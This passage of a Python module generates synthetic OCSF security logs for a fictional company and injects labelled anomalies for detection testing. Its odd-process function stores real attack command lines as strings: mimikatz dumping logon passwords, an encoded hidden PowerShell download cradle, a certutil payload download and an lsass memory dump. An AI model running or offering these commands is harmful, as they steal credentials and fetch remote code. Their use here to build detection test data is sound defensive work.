        class_weights[_CLASS_ORDER.index(6003)] = 0.0

    site_keys = [k for k in dept.sites if rng.random() < 0.85] or list(dept.sites[:3])
    sites = [_SITES[k] for k in site_keys]
    site_w = rng.gamma(1.0, 1.0, size=len(sites)).tolist()

    internal_ips = set(_SERVERS.values())
    dests: list[_Dest] = [_site_dest(s, s.ip in internal_ips) for s in sites]
    dest_w: list[float] = list(site_w)
    dc = _SERVERS["dc01"]
    dests += [_Dest(dc, 88, 7.0, 7.3, 0.3, 3.0), _Dest(dc, 389, 6.5, 7.5, 0.6, 4.0)]
    dest_w += [0.6, 0.4]
    for server in dept.servers:
        ip = _SERVERS[server]
        if server == "fs01":
            dests.append(_Dest(ip, 445, 9.0, 11.0, 1.6, 9.0))
        elif server == "db01":
            dests.append(_Dest(ip, 5432, 7.5, 10.0, 1.5, 8.5))
        else:
            dests.append(_Dest(ip, 22, 8.5, 9.0, 1.2, 11.0))
        dest_w.append(0.5 if server == "fs01" else 0.25)
    if is_admin:
        dests.append(_Dest(dc, 3389, 10.0, 12.5, 1.2, 12.0))
        dest_w.append(0.3)

    dns = (
        _dns_entries(sites)
        + [(f"{s}.{_DOMAIN}", _SERVERS[s], None) for s in dept.servers]
        + list(_BACKGROUND_DNS)
    )
    dns_w = [*site_w, *([0.3] * len(dept.servers)), 0.3, 0.2, 0.1, 0.1, 0.05, 0.2]

    browser_proc = "chrome" if rng.random() < 0.7 else "edge"
    proc_keys = [k for k in dept.procs if rng.random() < 0.8] or list(dept.procs[:2])
    procs = [_PROCS[browser_proc], *(_PROCS[k] for k in proc_keys)]
    proc_w = rng.gamma(1.5, 1.0, size=len(procs)).tolist()

    own_ops = [
        dept.ops[int(i)] for i in sorted(rng.choice(len(dept.ops), size=min(len(dept.ops), 4), replace=False))
    ]
    ops = list(_COMMON_OPS) + own_ops
    op_w = rng.gamma(1.0, 1.0, size=len(ops)).tolist()
    regions = ["eu-west-1"]
    region_w = [0.85]
    if rng.random() < 0.3:
        regions.append("eu-central-1")
        region_w.append(0.12)
    if dept.name in ("engineering", "it"):
        regions.append("us-east-1")
        region_w.append(0.05)

    actor = _Actor(
        name=name,
        sid=f"S-1-5-21-3623811015-3361044348-30300820-{1100 + uid_index}",
        dept=dept.name,
        is_service=False,
        is_admin=is_admin,
        ip=f"10.1.{dept_index + 1}.{10 + j}",
        hosts=hosts,
        servers=dept.servers,
        linux=False,
        class_cum=_cum(class_weights),
        sites=tuple(sites),
        site_cum=_cum(site_w),
        dests=tuple(dests),
        dest_cum=_cum(dest_w),
        dns=tuple(dns),
        dns_cum=_cum(dns_w),
        procs=tuple(procs),
        proc_cum=_cum(proc_w),
        ops=tuple(ops),
        op_cum=_cum(op_w),
        regions=tuple(regions),
        region_cum=_cum(region_w),
        browser=_BROWSERS[0 if browser_proc == "chrome" else int(rng.integers(1, len(_BROWSERS)))],
    )
    profile = _human_profile(start_h, end_h, 0.08 if is_admin else 0.02)
    return actor, profile, float(rng.lognormal(0.0, 0.35))


def _make_service(
    *,
    name: str,
    host: str,
    class_weights: tuple[float, ...],
    site_keys: tuple[str, ...],
    dests: tuple[tuple[_Dest, float], ...],
    proc_keys: tuple[str, ...],
    ops: tuple[tuple[str, str], ...],
    servers: tuple[str, ...],
    uid_index: int,
) -> _Actor:
    sites = [_SITES[k] for k in site_keys]
    dns: list[tuple[str, str | None, str | None]] = _dns_entries(sites)
    dns += [(f"{s}.{_DOMAIN}", _SERVERS[s], None) for s in servers]
    if name == "svc-monitor":
        dns += [("acme.com", None, "TXT"), ("_dmarc.acme.com", None, "TXT")]
    return _Actor(
        name=name,
        sid=f"S-1-5-21-3623811015-3361044348-30300820-{1100 + uid_index}",
        dept="service",
        is_service=True,
        is_admin=False,
        ip=_SERVERS[host],
        hosts=(host,),
        servers=servers,
        linux=True,
        class_cum=_cum(class_weights),
        sites=tuple(sites),
        site_cum=_cum([1.0] * len(sites)),
        dests=tuple(d for d, _ in dests),
        dest_cum=_cum([w for _, w in dests]),
        dns=tuple(dns),
        dns_cum=_cum([1.0] * len(dns)),
        procs=tuple(_LINUX_PROCS[k] for k in proc_keys),
        proc_cum=_cum([1.0] * len(proc_keys)),
        ops=ops,
        op_cum=_cum([3.0] + [1.0] * (len(ops) - 1)),
        regions=("eu-west-1",),
        region_cum=(1.0,),
        browser="",
    )


def _services() -> list[tuple[_Actor, list[float], float]]:
    s3 = _SITES["s3"].ip
    backup = _make_service(
        name="svc-backup",
        host="backup01",
        class_weights=(4, 30, 14, 12, 20, 20),
        site_keys=("s3",),
        dests=(
            (_Dest(s3, 443, 17.0, 9.0, 1.0, 13.0), 2.0),
            (_Dest(_SERVERS["fs01"], 445, 8.0, 16.0, 1.2, 12.0), 1.0),
        ),
        proc_keys=("restic", "pg_dump", "rsync"),
        ops=(
            ("s3", "PutObject"),
            ("s3", "ListObjectsV2"),
            ("s3", "CreateMultipartUpload"),
            ("s3", "CompleteMultipartUpload"),
        ),
        servers=("fs01", "db01"),
        uid_index=90,
    )
    ci = _make_service(
        name="svc-ci",
        host="build01",
        class_weights=(3, 30, 20, 12, 20, 15),
        site_keys=("ci_github", "ci_pypi", "ecr"),
        dests=(
            (_Dest(_SITES["ci_github"].ip, 443, 8.0, 13.0, 1.0, 10.0), 1.0),
            (_Dest(_SITES["ci_pypi"].ip, 443, 7.5, 14.0, 1.0, 9.0), 1.0),
            (_Dest(_SITES["ecr"].ip, 443, 16.0, 8.5, 1.0, 11.0), 0.7),
        ),
        proc_keys=("ci_git", "ci_docker", "ci_pytest"),
        ops=(
            ("ecr", "GetAuthorizationToken"),
            ("ecr", "PutImage"),
            ("lambda", "UpdateFunctionCode"),
            ("s3", "PutObject"),
        ),
        servers=("db01",),
        uid_index=91,
    )
    monitor = _make_service(
        name="svc-monitor",
        host="mon01",
        class_weights=(2, 35, 25, 20, 10, 8),
        site_keys=("health",),
        dests=tuple(
            (_Dest(_SERVERS[s], 9100, 6.0, 8.5, 0.4, 3.0), 1.0)
            for s in ("dc01", "fs01", "db01", "build01", "backup01")
        ),
        proc_keys=("curl", "check_disk"),
        ops=(("cloudwatch", "PutMetricData"), ("cloudwatch", "GetMetricData"), ("ec2", "DescribeInstances")),
        servers=("dc01", "fs01", "db01", "build01", "backup01"),
        uid_index=92,
    )
    backup_profile = [2.5 if 1 <= h < 5 else 0.15 for _ in range(7) for h in range(24)]
    ci_profile = [1.0 if d < 5 and 8 <= h < 19 else 0.15 for d in range(7) for h in range(24)]
    monitor_profile = [0.5] * 168
    return [(backup, backup_profile, 1.0), (ci, ci_profile, 1.0), (monitor, monitor_profile, 1.0)]


def _hires(seed: int, count: int, taken: set[str]) -> list[tuple[_Actor, list[float], float]]:
    """``count`` employees who joined after the training period, drawn like the staff from ``(seed, 2)``.

    Each joins a department chosen in proportion to its size, under a name not in ``taken``, with the next
    free home IP of the department and a workstation of its own, new to the network. The first ``m`` of
    ``count`` hires are the ``m`` hires.
    """
    rng = np.random.default_rng([seed, 2])
    first_names, last_names = _FIRST_NAMES.split(), _LAST_NAMES.split()
    sizes = np.array([d.size for d in _DEPTS], dtype=np.float64)
    names = set(taken)
    joined = [0] * len(_DEPTS)
    entries: list[tuple[_Actor, list[float], float]] = []
    for k in range(count):
        dept_index = int(rng.choice(len(_DEPTS), p=sizes / sizes.sum()))
        dept = _DEPTS[dept_index]
        name = ""
        while not name or name in names:
            name = f"{rng.choice(first_names)}.{rng.choice(last_names)}".lower()
        names.add(name)
        n = joined[dept_index]
        joined[dept_index] += 1
        host = f"{dept.host_prefix}-{dept.n_hosts + 1 + n:02d}"
        entries.append(_make_human(rng, dept, dept_index, dept.size + n, name, 100 + k, (host,)))
    return entries


@functools.lru_cache(maxsize=8)
def _world(seed: int, new_hires: int = 0) -> _World:
    """The company for ``seed``, with ``new_hires`` more employees: users with habits, and when each is active."""
    rng = np.random.default_rng([seed, 0])
    n_users = sum(d.size for d in _DEPTS)
    first_names, last_names = _FIRST_NAMES.split(), _LAST_NAMES.split()
    firsts = [first_names[int(i)] for i in rng.permutation(len(first_names))[:n_users]]
    lasts = [last_names[int(i)] for i in rng.integers(0, len(last_names), size=n_users)]
    entries: list[tuple[_Actor, list[float], float]] = []
    for dept_index, dept in enumerate(_DEPTS):
        hosts_pool = [f"{dept.host_prefix}-{k:02d}" for k in range(1, dept.n_hosts + 1)]
        for j in range(dept.size):
            k = len(entries)
            name = f"{firsts[k]}.{lasts[k]}".lower()
            entries.append(_make_human(rng, dept, dept_index, j, name, k, hosts_pool))
    entries += _services()
    entries += _hires(seed, new_hires, {a.name for a, _, _ in entries})
    actors = tuple(a for a, _, _ in entries)
    activity = np.array([[w * p for p in profile] for _, profile, w in entries], dtype=np.float64)  # (A, 168)
    return _World(
        actors=actors,
        humans=tuple(a for a in actors if not a.is_service),
        admins=tuple(a for a in actors if a.is_admin),
        how_mass=activity.sum(axis=0),
        how_actor_cum=np.cumsum(activity.T, axis=1),
    )


# ---------------------------------------------------------------------------------------------------------
# Event builders
# ---------------------------------------------------------------------------------------------------------


def _base(
    class_uid: int, activity_id: int, activity_name: str, severity_id: int, t: int, product: str
) -> Event:
    class_name, category_uid, category_name = _CLASSES[class_uid]
    product_name, vendor = _PRODUCTS[product]
    return {
        "class_uid": class_uid,
        "class_name": class_name,
        "category_uid": category_uid,
        "category_name": category_name,
        "activity_id": activity_id,
        "activity_name": activity_name,
        "type_uid": class_uid * 100 + activity_id,
        "type_name": f"{class_name}: {activity_name}",
        "severity_id": severity_id,
        "severity": _SEVERITY[severity_id],
        "time": t,
        "metadata": {
            "version": OCSF_VERSION,
            "uid": "",
            "product": {"name": product_name, "vendor_name": vendor},
        },
    }


def _risk(d: _Draws) -> float:
    """The vendor's ``risk_score``: noise, independent of the label."""
    return round(min(100.0, 5.0 + 12.0 * abs(d.z())), 1)


def _fill(template: str, d: _Draws, actor: _Actor) -> str:
    if "{" not in template:
        return template
    return template.format(
        user=actor.name,
        n=d.randint(2, 9999),
        repo=d.pick(_REPOS),
        pkg=d.pick(_PKGS),
        doc=d.pick(_DOCS),
        id=f"{d.randint(0, 16**12):012x}",
        server=d.pick(actor.servers or ("dc01",)),
    )


def _auth_event(
    t: int,
    d: _Draws,
    actor: _Actor,
    *,
    src_ip: str,
    dst_host: str,
    protocol: str,
    logon_type_id: int,
    is_mfa: bool,
    success: bool,
    logoff: bool = False,
) -> Event:
    radius = protocol == "RADIUS"
    activity_id, activity_name = (2, "Logoff") if logoff else (1, "Logon")
    event = _base(3002, activity_id, activity_name, 1 if success else 2, t, "vpn" if radius else "ad")
    event["status_id"] = 1 if success else 2
    event["status"] = "Success" if success else "Failure"
    if not success:
        event["status_code"] = "Access-Reject" if radius else "0xC000006A"
        event["status_detail"] = "Invalid credentials" if radius else "Unknown user name or bad password."
    event["user"] = {"name": actor.name, "uid": actor.sid, "domain": "ACME"}
    event["actor"] = {"user": {"name": actor.name}}
    event["src_endpoint"] = {"ip": src_ip}
    event["dst_endpoint"] = {"hostname": dst_host}
    if dst_host in _SERVERS:
        event["dst_endpoint"]["ip"] = _SERVERS[dst_host]
    event["auth_protocol"] = protocol
    event["auth_protocol_id"] = _AUTH_PROTOCOL_IDS[protocol]
    event["logon_type"] = _LOGON_TYPES[logon_type_id]
    event["logon_type_id"] = logon_type_id
    event["is_mfa"] = is_mfa
    event["unmapped"] = {"sensor": "vpn-gw" if radius else "dc01", "risk_score": _risk(d)}
    return event


def _auth(t: int, d: _Draws, a: _Actor) -> Event:
    logoff = d.below(0.1)
    success = logoff or d.below(0.97)
    r = d.u()
    if a.is_service:
        dst, protocol, logon_type, mfa = d.pick(a.servers), "Kerberos", 3, False
    elif r < 0.2:
        dst, protocol, logon_type, mfa = "vpn-gw", "RADIUS", 3, True
    elif r < 0.75:
        dst, protocol, logon_type, mfa = d.pick(a.hosts), "Kerberos", d.pick((2, 2, 7)), False
    elif a.is_admin:
        dst, protocol, logon_type, mfa = d.pick(a.servers), "Kerberos", 10, True
    else:
        dst, protocol, logon_type, mfa = d.pick(a.servers), "Kerberos" if d.below(0.8) else "NTLM", 3, False
    return _auth_event(
        t,
        d,
        a,
        src_ip=a.ip,
        dst_host=dst,
        protocol=protocol,
        logon_type_id=logon_type,
        is_mfa=mfa,
        success=success,
        logoff=logoff,
    )


def _network_event(
    t: int, d: _Draws, src_ip: str, dest: _Dest, bytes_out: int, bytes_in: int, duration: int
) -> Event:
    internal = dest.ip.startswith("10.")
    event = _base(4001, 6, "Traffic", 1, t, "fw")
    event["src_endpoint"] = {"ip": src_ip, "port": d.randint(49152, 65536)}
    event["dst_endpoint"] = {"ip": dest.ip, "port": dest.port}
    event["connection_info"] = {
        "protocol_name": dest.proto,
        "protocol_num": 6 if dest.proto == "tcp" else 17,
        "direction": "Lateral" if internal else "Outbound",
        "direction_id": 3 if internal else 2,
    }
    packets_out = bytes_out // d.randint(500, 1400) + 1
    packets_in = bytes_in // d.randint(500, 1400) + 1
    event["traffic"] = {
        "bytes_in": bytes_in,
        "bytes_out": bytes_out,
        "bytes": bytes_in + bytes_out,
        "packets_in": packets_in,
        "packets_out": packets_out,
        "packets": packets_in + packets_out,
    }
    event["duration"] = duration
    event["unmapped"] = {
        "sensor": "fw-core-01" if internal else "fw-edge-01",
        "risk_score": _risk(d),
        "rule_name": "allow-internal" if internal else "allow-outbound",
    }
    return event


def _network(t: int, d: _Draws, a: _Actor) -> Event:
    dest = d.wpick(a.dests, a.dest_cum)
    bytes_out = d.lognormal(dest.out_mu, dest.sigma)
    bytes_in = d.lognormal(dest.in_mu, dest.sigma)
    return _network_event(t, d, a.ip, dest, bytes_out, bytes_in, d.lognormal(dest.dur_mu, 1.0))


def _dns_event(
    t: int, d: _Draws, src_ip: str, hostname: str, qtype: str, rcode_id: int, rdata: str | None
) -> Event:
    event = _base(4003, 6, "Traffic", 1, t, "dns")
    event["query"] = {"hostname": hostname, "type": qtype, "class": "IN"}
    event["rcode_id"] = rcode_id
    event["rcode"] = {0: "NoError", 2: "ServFail", 3: "NXDomain"}[rcode_id]
    if rdata is not None:
        event["answers"] = [{"rdata": rdata, "type": qtype, "ttl": d.pick((60, 300, 3600))}]
    event["src_endpoint"] = {"ip": src_ip, "port": d.randint(49152, 65536)}
    event["dst_endpoint"] = {"ip": _RESOLVER, "port": 53}
    event["connection_info"] = {"protocol_name": "udp", "protocol_num": 17}
    return event


def _dns(t: int, d: _Draws, a: _Actor) -> Event:
    hostname, ip, fixed_type = d.wpick(a.dns, a.dns_cum)
    qtype = fixed_type or ("A" if d.below(0.75) else "AAAA")
    rdata: str | None = None
    if hostname == f"wpad.{_DOMAIN}":
        rcode = 3
    elif d.below(0.015):
        rcode = 2
    else:
        rcode = 0
        if qtype == "A":
            rdata = ip
        elif qtype == "SRV":
            rdata = f"0 100 389 dc01.{_DOMAIN}"
        elif qtype == "TXT":
            rdata = (
                "v=DMARC1; p=quarantine"
                if hostname.startswith("_dmarc")
                else "v=spf1 include:spf.protection.outlook.com -all"
            )
    return _dns_event(t, d, a.ip, hostname, qtype, rcode, rdata)


def _http(t: int, d: _Draws, a: _Actor) -> Event:
    site = d.wpick(a.sites, a.site_cum)
    method = site.write_method if d.below(site.write_share) else "GET"
    path = _fill(d.pick(site.paths), d, a)
    r = d.u()
    if method == "GET":
        code = (
            200
            if r < 0.86
            else 304
            if r < 0.91
            else 302
            if r < 0.94
            else 404
            if r < 0.98
            else 403
            if r < 0.99
            else 500
        )
    else:
        code = 200 if r < 0.80 else 201 if r < 0.92 else 400 if r < 0.96 else 401 if r < 0.98 else 500
    event = _base(4002, _HTTP_ACTIVITY[method], method.capitalize(), 1, t, "proxy")
    event["http_request"] = {
        "http_method": method,
        "url": {"scheme": "https", "hostname": site.hostname, "path": path, "port": 443},
        "user_agent": site.agent or a.browser,
        "version": "HTTP/1.1" if site.ip.startswith("10.") else "HTTP/2",
    }
    event["http_response"] = {"code": code, "length": d.lognormal(9.5, 1.3)}
    event["src_endpoint"] = {"ip": a.ip}
    event["dst_endpoint"] = {"hostname": site.hostname, "ip": site.ip, "port": 443}
    event["actor"] = {"user": {"name": a.name}}
    return event


def _process_event(
    t: int, d: _Draws, *, host: str, linux: bool, user: str, proc: _Proc, parent: str, cmd: str, path: str
) -> Event:
    terminate = d.below(0.15)
    event = _base(
        1007,
        2 if terminate else 1,
        "Terminate" if terminate else "Launch",
        1,
        t,
        "auditd" if linux else "sysmon",
    )
    event["actor"] = {"process": {"name": parent, "pid": d.randint(300, 20000)}, "user": {"name": user}}
    event["process"] = {
        "name": proc.name,
        "pid": d.randint(1000, 60000),
        "cmd_line": cmd,
        "file": {"name": proc.name, "path": path},
    }
    event["device"] = {
        "hostname": host,
        "type": "Server" if linux else "Desktop",
        "type_id": 1 if linux else 2,
        "os": {
            "name": "Ubuntu 22.04" if linux else "Windows 11",
            "type": "Linux" if linux else "Windows",
            "type_id": 200 if linux else 100,
        },
    }
    event["unmapped"] = {"sensor": f"{'auditd' if linux else 'sysmon'}@{host}", "risk_score": _risk(d)}
    return event


def _process(t: int, d: _Draws, a: _Actor) -> Event:
    host = d.pick(a.hosts)
    if not a.linux and d.below(0.12):
        proc, user = d.pick(_SYSTEM_PROCS), "SYSTEM"
    else:
        proc, user = d.wpick(a.procs, a.proc_cum), a.name
    cmd = _fill(d.pick(proc.cmds), d, a)
    path = proc.path.replace("{user}", a.name)
    return _process_event(
        t, d, host=host, linux=a.linux, user=user, proc=proc, parent=proc.parent, cmd=cmd, path=path
    )


def _api_activity(operation: str) -> tuple[int, str]:
    if operation.startswith(("Get", "List", "Describe", "Lookup", "Filter", "Query")):
        return 2, "Read"
    if operation.startswith(("Create", "Put", "Initiate", "Run")):
        return 1, "Create"
    if operation.startswith(("Update", "Modify", "Attach", "Authorize", "Complete")):
        return 3, "Update"
    if operation.startswith(("Delete", "Schedule")):
        return 4, "Delete"
    return 99, "Other"


def _api_event(
    t: int, d: _Draws, a: _Actor, *, service: str, operation: str, region: str, src_ip: str, success: bool
) -> Event:
    activity_id, activity_name = _api_activity(operation)
    event = _base(6003, activity_id, activity_name, 1 if success else 2, t, "cloudtrail")
    event["status_id"] = 1 if success else 2
    event["status"] = "Success" if success else "Failure"
    if not success:
        event["status_detail"] = "AccessDenied"
    event["api"] = {
        "operation": operation,
        "service": {"name": f"{service}.amazonaws.com"},
        "request": {"uid": f"{d.randint(0, 16**12):012x}{d.randint(0, 16**12):012x}"},
    }
    user_type, arn = (
        ("AssumedRole", f"arn:aws:sts::{_ACCOUNT_ID}:assumed-role/{a.name}-role/{a.name}")
        if a.is_service
        else ("IAMUser", f"arn:aws:iam::{_ACCOUNT_ID}:user/{a.name}")
    )
    event["actor"] = {"user": {"name": a.name, "type": user_type, "uid": arn}}
    event["cloud"] = {"provider": "AWS", "region": region, "account": {"uid": _ACCOUNT_ID}}
    event["src_endpoint"] = {"ip": src_ip}
    return event


def _api(t: int, d: _Draws, a: _Actor) -> Event:
    service, operation = d.wpick(a.ops, a.op_cum)
    region = d.wpick(a.regions, a.region_cum)
    success = d.below(0.97)
    return _api_event(
        t, d, a, service=service, operation=operation, region=region, src_ip=a.ip, success=success
    )


_BUILDERS: Final[tuple[Callable[[int, _Draws, _Actor], Event], ...]] = (
    _auth,
    _network,
    _dns,
    _http,
    _process,
    _api,
)


# ---------------------------------------------------------------------------------------------------------
# Anomalies
# ---------------------------------------------------------------------------------------------------------


def _external_ip(d: _Draws) -> str:
    return f"{d.pick(_ATTACKER_NETS)}{d.randint(2, 255)}"


def _slot_time(d: _Draws, start: int, end: int, weekdays: tuple[int, ...], h_lo: int, h_hi: int) -> int:
    """A random time at hours ``[h_lo, h_hi)`` of one of ``weekdays`` (0 = Monday) at or after ``start``.

    Slots inside ``[start, end)`` are preferred; if the window has none, the first one after it is used.
    """
    slots: list[tuple[int, int]] = []
    day = start // _DAY_MS
    while True:
        if (day + 3) % 7 in weekdays:  # 1970-01-01 was a Thursday
            lo = max(day * _DAY_MS + h_lo * _HOUR_MS, start)
            hi = day * _DAY_MS + h_hi * _HOUR_MS
            if lo < hi and (lo < end or not slots):
                slots.append((lo, min(hi, end) if lo < end else hi))
        day += 1
        if day * _DAY_MS >= end and slots:
            break
    lo, hi = d.pick(slots)
    return lo + int(d.u() * (hi - lo))


def _random_label(rng: np.random.Generator, length: int) -> str:
    return "".join(_BASE32[int(i)] for i in rng.integers(0, len(_BASE32), size=length))


def _anomalies(
    world: _World, kinds: list[str], rng: np.random.Generator, start: int, end: int
) -> list[tuple[int, Event, str]]:
    """Build one event per entry of ``kinds``; returns ``(time, event, kind)``."""
    out: list[tuple[int, Event, str]] = []
    d = _Draws(rng)
    tunnel_domain = d.pick(_TUNNEL_DOMAINS)  # one tunnel per call
    workdays = (0, 1, 2, 3, 4)
    everyday = (0, 1, 2, 3, 4, 5, 6)
    span = max(1, end - start)

    burst_victim = d.pick(world.humans)
    burst_ip = _external_ip(d)
    burst_t = start + int(d.u() * span)
    in_burst = 0
    for kind in kinds:
        if kind == "brute_force":
            if in_burst == 6:  # a new campaign: another victim, source and time
                burst_victim = d.pick(world.humans)
                burst_ip = _external_ip(d)
                burst_t = start + int(d.u() * span)
                in_burst = 0
            burst_t += d.randint(1_000, 20_000)
            in_burst += 1
            event = _auth_event(
                burst_t,
                d,
                burst_victim,
                src_ip=burst_ip,
                dst_host="vpn-gw",
                protocol="RADIUS",
                logon_type_id=3,
                is_mfa=False,
                success=False,
            )
            out.append((burst_t, event, kind))
            continue
        a = d.pick(world.humans)
        if kind == "impossible_region":
            t = start + int(d.u() * span)
            service, operation = d.pick(_SENSITIVE_OPS)
            src = a.ip if d.below(0.5) else _external_ip(d)
            event = _api_event(
                t,
                d,
                a,
                service=service,
                operation=operation,
                region=d.pick(_UNUSUAL_REGIONS),
                src_ip=src,
                success=True,
            )
        elif kind == "exfiltration":
            t = _slot_time(d, start, end, everyday, 1, 5)
            dest = _Dest(_external_ip(d), 443, 8.0, 8.5)
            bytes_out = int(math.exp(dest.out_mu) * (100.0 + 900.0 * d.u()))
            event = _network_event(t, d, a.ip, dest, bytes_out, d.lognormal(8.5, 0.8), d.lognormal(11.0, 0.7))
        elif kind == "rare_port":
            t = _slot_time(d, start, end, workdays, 9, 17)
            dest = _Dest(_external_ip(d), d.pick((4444, 31337, 1337, 6667)), 9.0, 9.5)
            event = _network_event(
                t, d, a.ip, dest, d.lognormal(9.0, 1.0), d.lognormal(9.5, 1.0), d.lognormal(12.0, 1.0)
            )
        elif kind == "odd_process":
            t = _slot_time(d, start, end, workdays, 9, 17)
            event = _odd_process(t, d, a, rng)
        elif kind == "dns_tunnel":
            t = _slot_time(d, start, end, workdays, 9, 17)
            labels = (_random_label(rng, d.randint(40, 64)), _random_label(rng, d.randint(8, 20)))
            name = f"{labels[0]}.{labels[1]}.{tunnel_domain}"
            rdata = base64.b64encode(rng.bytes(d.randint(30, 120))).decode("ascii")
            event = _dns_event(t, d, a.ip, name, "TXT", 0, rdata)
        elif kind == "off_hours_admin":
            admin = d.pick(world.admins)
            t = _slot_time(d, start, end, (6,), 3, 4)
            event = _auth_event(
                t,
                d,
                admin,
                src_ip=admin.ip,
                dst_host=d.pick(("dc01", "fs01")),
                protocol="Kerberos",
                logon_type_id=10,
                is_mfa=True,
                success=True,
            )
        else:  # pragma: no cover - kinds come from ANOMALY_KINDS
            raise ValueError(f"unknown anomaly kind {kind!r}")
        out.append((t, event, kind))
    return out


def _odd_process(t: int, d: _Draws, a: _Actor, rng: np.random.Generator) -> Event:
    host = d.pick(a.hosts)
    temp = f"C:\\Users\\{a.name}\\AppData\\Local\\Temp"
    variant = d.randint(0, 5)
    if variant == 0:
        proc = _Proc("mimikatz.exe", f"{temp}\\mimikatz.exe", "cmd.exe", ())
        cmd = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
    elif variant == 1:
        url = f"http://{_external_ip(d)}/{_random_label(rng, 6)}.ps1"
        script = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
        encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
        parent = d.pick(("WINWORD.EXE", "OUTLOOK.EXE", "EXCEL.EXE"))
        proc = _Proc(
            "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", parent, ()
        )
        cmd = f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded}"
    elif variant == 2:
        proc = _Proc("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "cmd.exe", ())
        cmd = f"certutil.exe -urlcache -split -f http://{_external_ip(d)}/a.exe C:\\Users\\Public\\a.exe"
    elif variant == 3:
        proc = _Proc("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "EXCEL.EXE", ())
        cmd = f"rundll32.exe C:\\Users\\Public\\{_random_label(rng, 8)}.dll,DllRegisterServer"
    else:
        proc = _Proc("procdump64.exe", f"{temp}\\procdump64.exe", "cmd.exe", ())
        cmd = "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp"
    return _process_event(
        t, d, host=host, linux=False, user=a.name, proc=proc, parent=proc.parent, cmd=cmd, path=proc.path
    )


# ---------------------------------------------------------------------------------------------------------
# Generation
# ---------------------------------------------------------------------------------------------------------


def _window_ms(n: int) -> int:
    """How much time ``n`` events span at :data:`EVENTS_PER_DAY` (at least one hour)."""
    return max(_HOUR_MS, round(n * _DAY_MS / EVENTS_PER_DAY))


def _normal_times(
    world: _World, rng: np.random.Generator, m: int, start: int, end: int
) -> tuple[list[int], list[int]]:
    """``m`` sorted times in ``[start, end)`` following the company's weekly rhythm, and who acts at each."""
    if m == 0:
        return [], []
    hours = np.arange(start // _HOUR_MS, (end - 1) // _HOUR_MS + 1, dtype=np.int64)
    lo = np.maximum(hours * _HOUR_MS, start)
    hi = np.minimum((hours + 1) * _HOUR_MS, end)
    how = ((hours // 24 + 3) % 7) * 24 + hours % 24
    mass = world.how_mass[how] * (hi - lo).astype(np.float64)
    cum = np.cumsum(mass)
    u = np.sort(rng.random(m)) * cum[-1]
    idx = np.minimum(np.searchsorted(cum, u, side="right"), len(cum) - 1)
    frac = np.clip((u - (cum[idx] - mass[idx])) / mass[idx], 0.0, 1.0 - 1e-12)
    times = lo[idx] + np.floor(frac * (hi[idx] - lo[idx]).astype(np.float64)).astype(np.int64)
    actor_cum = world.how_actor_cum[how[idx]]  # (m, n_actors)
    target = rng.random(m) * actor_cum[:, -1]
    actors = np.minimum((actor_cum <= target[:, None]).sum(axis=1), actor_cum.shape[1] - 1)
    times_list: list[int] = times.tolist()
    actors_list: list[int] = actors.tolist()
    return times_list, actors_list


@contextlib.contextmanager
def _gc_paused() -> Iterator[None]:
    """Pause the cyclic garbage collector while building events.

    The events hold no reference cycles, but their ~10 dicts each would trigger collection after
    collection over an ever larger heap: pausing it saves about a third of the run time.
    """
    enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if enabled:
            gc.enable()


def _generate(
    n: int,
    *,
    seed: int,
    stream: int,
    anomaly_rate: float,
    start_time_ms: int,
    uid_offset: int,
    new_hires: int = 0,
) -> tuple[list[Event], list[str]]:
    """:func:`generate_events` on event stream ``stream``, numbering uids from ``uid_offset``."""
    if n < 0:
        raise ValueError(f"n must be >= 0, got {n}")
    if seed < 0:
        raise ValueError(f"seed must be >= 0, got {seed}")
    if not 0.0 <= anomaly_rate <= 1.0:
        raise ValueError(f"anomaly_rate must be in [0, 1], got {anomaly_rate}")
    if not 0 <= new_hires <= MAX_NEW_HIRES:
        raise ValueError(f"new_hires must be in [0, {MAX_NEW_HIRES}], got {new_hires}")
    with _gc_paused():
        return _build(n, seed, stream, anomaly_rate, start_time_ms, uid_offset, new_hires)


def _build(
    n: int, seed: int, stream: int, anomaly_rate: float, start_time_ms: int, uid_offset: int, new_hires: int
) -> tuple[list[Event], list[str]]:
    world = _world(seed, new_hires)
    n_anomalies = min(n, round(n * anomaly_rate))
    m = n - n_anomalies
    time_rng, event_rng, anomaly_rng = (
        np.random.default_rng(s) for s in np.random.SeedSequence([seed, 1, stream]).spawn(3)
    )
    start = start_time_ms
    end = start + _window_ms(n)

    times, actor_ids = _normal_times(world, time_rng, m, start, end)
    rows: list[tuple[int, int, Event, str]] = []
    d = _Draws(event_rng)
    for i, (t, actor_id) in enumerate(zip(times, actor_ids, strict=True)):
        actor = world.actors[actor_id]
        builder = _BUILDERS[min(bisect.bisect_right(actor.class_cum, d.u() * actor.class_cum[-1]), 5)]
        rows.append((t, i, builder(t, d, actor), NORMAL))

    if n_anomalies:
        order = anomaly_rng.permutation(len(ANOMALY_KINDS))
        kinds = [ANOMALY_KINDS[int(order[j % len(order)])] for j in range(n_anomalies)]
        kinds.sort(key=lambda k: k != "brute_force")  # bursts first: one campaign after another
        for j, (t, event, kind) in enumerate(_anomalies(world, kinds, anomaly_rng, start, end)):
            rows.append((t, m + j, event, kind))
        rows.sort(key=lambda row: (row[0], row[1]))

    events: list[Event] = []
    labels: list[str] = []
    previous = start - 1
    for i, (t, _, event, label) in enumerate(rows):
        t = max(t, previous + 1)  # strictly increasing times
        previous = t
        event["time"] = t
        event["metadata"]["uid"] = f"demo-{seed}-{uid_offset + i}"
        events.append(event)
        labels.append(label)
    return events, labels


def generate_events(
    n: int,
    *,
    seed: int,
    anomaly_rate: float = 0.0,
    start_time_ms: int = DEFAULT_START_TIME_MS,
    new_hires: int = 0,
) -> tuple[list[dict[str, Any]], list[str]]:
    """Generate ``n`` OCSF 1.5.0 events of the demo company, ``round(n * anomaly_rate)`` of them anomalies.

    Returns the events, in strictly increasing ``time`` from ``start_time_ms`` (epoch ms, UTC) over about
    ``n / 280`` days, and a parallel list of labels: ``"normal"`` or the anomaly kind (one of
